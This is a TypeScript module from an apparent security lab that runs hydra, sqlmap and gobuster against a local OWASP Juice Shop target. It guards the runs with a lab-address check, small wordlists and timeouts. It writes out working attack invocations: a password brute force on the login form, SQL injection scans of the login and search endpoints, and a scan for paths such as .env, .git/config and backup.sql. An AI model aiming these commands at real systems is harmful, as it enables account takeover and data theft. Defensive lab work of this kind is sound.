/**
 * Real attack tools (`--tools`): hydra on the login, sqlmap on the login and the search, gobuster on paths.
 * Every run is bounded: small wordlists shipped here, few threads, a hard timeout, lab targets only
 * (loopback or private addresses).
 */
import { spawn } from 'node:child_process';
import { lookup } from 'node:dns/promises';
import { accessSync, constants, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';

export type ToolName = 'hydra' | 'sqlmap' | 'gobuster';

export const TOOL_NAMES: readonly ToolName[] = ['hydra', 'sqlmap', 'gobuster'];

/** The User-Agent each tool sends by default: how its records are told apart. */
export const TOOL_USER_AGENT: Record<ToolName, RegExp> = {
  hydra: /hydra/i,
  sqlmap: /sqlmap/i,
  gobuster: /gobuster/i,
};

/** 24 guesses, the right password last: hydra finds it, like the built-in brute force. */
export function hydraPasswords(rightPassword: string): string[] {
  return ['123456', 'password', 'qwerty', 'letmein', 'admin', 'welcome', 'monkey', 'dragon', 'football', 'iloveyou',
    'master', 'sunshine', 'princess', 'shadow', 'superman', 'michael', 'trustno1', 'baseball', 'abc123', 'secret',
    'juice', 'bender', 'futurama', rightPassword];
}

/** Paths a directory scanner tries first (a slice of common.txt), Juice Shop's own among them. */
export const GOBUSTER_WORDS = ['.env', '.git/HEAD', '.git/config', '.svn/entries', '.htaccess', '.htpasswd', '.DS_Store',
  'admin', 'administrator', 'api', 'backup', 'backup.sql', 'config.php', 'console', 'debug', 'ftp', 'login', 'logs',
  'phpmyadmin', 'robots.txt', 'server-status', 'WEB-INF/web.xml', 'wp-admin', 'wp-login.php', 'xmlrpc.php', 'support/logs',
  'encryptionkeys', 'metrics', 'promotion', 'snippets', 'video', 'actuator/health'];

export interface ToolRun {
  tool: ToolName;
  /** What was run (for the report). */
  command: string;
  exitCode: number | null;
  timedOut: boolean;
  ms: number;
  /** The last lines of the tool's output. */
  tail: string;
}

/** Loopback or private (RFC 1918, RFC 4193): a lab network, never someone else's host. */
export function isLabAddress(address: string): boolean {
  if (net.isIPv4(address)) {
    const [a, b] = address.split('.').map(Number) as [number, number];
    return a === 127 || a === 10 || (a === 172 && b >= 16 && b <= 31) || (a === 192 && b === 168);
  }
  const v6 = address.toLowerCase();
  return v6 === '::1' || /^f[cd][0-9a-f]{2}:/.test(v6) || (v6.startsWith('::ffff:') && isLabAddress(v6.slice(7)));
}

/** Real tools run only against hosts that resolve to lab addresses (loopback, a Docker network). */
export async function isLabHost(host: string): Promise<boolean> {
  const bare = host.replace(/^\[(.*)\]$/, '$1');
  if (net.isIP(bare) !== 0) return isLabAddress(bare);
  try {
    const addresses = await lookup(bare, { all: true });
    return addresses.length > 0 && addresses.every((entry) => isLabAddress(entry.address));
  } catch {
    return false;
  }
}

/** The tool's path on PATH, or undefined. */
export function findTool(name: ToolName, searchPath = process.env.PATH ?? ''): string | undefined {
  for (const dir of searchPath.split(path.delimiter)) {
    if (dir === '') continue;
    const candidate = path.join(dir, name);
    try {
      accessSync(candidate, constants.X_OK);
      return candidate;
    } catch {
      continue;
    }
  }
  return undefined;
}

function quote(arg: string): string {
  return /^[\w@%+=:,./-]+$/.test(arg) ? arg : `'${arg.replace(/'/g, "'\\''")}'`;
}

/** Run a tool with a hard timeout (SIGTERM, then SIGKILL); output kept bounded. */
export function runBounded(tool: ToolName, file: string, args: readonly string[], timeoutMs: number, cwd: string): Promise<ToolRun> {
  const started = Date.now();
  return new Promise((resolve) => {
    const child = spawn(file, args, { cwd, stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, TERM: 'dumb' } });
    let output = '';
    const keep = (chunk: Buffer): void => {
      output = (output + chunk.toString('utf8')).slice(-16_384);
    };
    child.stdout.on('data', keep);
    child.stderr.on('data', keep);
    let timedOut = false;
    const timer = setTimeout(() => {
      timedOut = true;
      child.kill('SIGTERM');
      setTimeout(() => child.kill('SIGKILL'), 2000).unref();
    }, timeoutMs);
    const finish = (exitCode: number | null, error?: Error): void => {
      clearTimeout(timer);
      const lines = output.split('\n').filter((line) => line.trim() !== '');
      resolve({
        tool,
        command: [tool, ...args].map(quote).join(' '),
        exitCode,
        timedOut,
        ms: Date.now() - started,
        tail: (error !== undefined ? `${error.message}\n` : '') + lines.slice(-6).join('\n'),
      });
    };
    child.once('error', (error) => finish(null, error));
    child.once('close', (code) => finish(code));
  });
}

export interface ToolTarget {
  /** http://127.0.0.1:3000 */
  url: string;
  /** The account hydra attacks and its password (the last guess). */
  account: { email: string; password: string };
  /** Length of the page the shop answers for any unknown path (gobuster's wildcard filter). */
  wildcardLength?: number;
}

/** Run hydra, sqlmap (login and search) and gobuster in turn against one loopback target. */
export async function runTools(target: ToolTarget, available: Partial<Record<ToolName, string>>, timeoutMs = 45_000): Promise<ToolRun[]> {
  const url = new URL(target.url);
  const port = url.port || (url.protocol === 'https:' ? '443' : '80');
  const base = url.pathname.replace(/\/+$/, '');
  const dir = mkdtempSync(path.join(tmpdir(), 'a09-tools-'));
  const runs: ToolRun[] = [];
  try {
    const passwords = path.join(dir, 'passwords.txt');
    writeFileSync(passwords, `${hydraPasswords(target.account.password).join('\n')}\n`);
    const words = path.join(dir, 'paths.txt');
    writeFileSync(words, `${GOBUSTER_WORDS.join('\n')}\n`);
    if (available.hydra !== undefined) {
      runs.push(await runBounded('hydra', available.hydra, [
        '-l', target.account.email, '-P', passwords, '-s', port, '-t', '4', '-w', '5', '-f', '-I',
        ...(url.protocol === 'https:' ? ['-S'] : []),
        // g=: no pre-request for cookies (Juice Shop answers GET /rest/user/login with a 500); hydra 9.4 wants
        // the optional parameters before the condition.
        url.hostname, 'http-post-form', `${base}/rest/user/login:email=^USER^&password=^PASS^:g=:F=Invalid email`,
      ], timeoutMs, dir));
    }
    if (available.sqlmap !== undefined) {
      const common = ['--batch', '--level=1', '--risk=1', '--threads=2', '--timeout=5', '--retries=0', '--flush-session', `--output-dir=${path.join(dir, 'sqlmap')}`, '--disable-coloring'];
      runs.push(await runBounded('sqlmap', available.sqlmap, ['-u', `${target.url}/rest/user/login`, `--data={"email":"a09@juice-sh.op*","password":"x"}`, '--ignore-code=401', '--technique=BE', ...common], timeoutMs, dir));
      runs.push(await runBounded('sqlmap', available.sqlmap, ['-u', `${target.url}/rest/products/search?q=apple`, '-p', 'q', '--technique=BU', ...common], timeoutMs, dir));
    }
    if (available.gobuster !== undefined) {
      runs.push(await runBounded('gobuster', available.gobuster, [
        'dir', '-u', target.url, '-w', words, '-t', '4', '-q', '--no-error', '-z', '--timeout', '5s',
        ...(target.wildcardLength !== undefined ? ['--exclude-length', String(target.wildcardLength)] : []),
      ], timeoutMs, dir));
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  return runs;
}
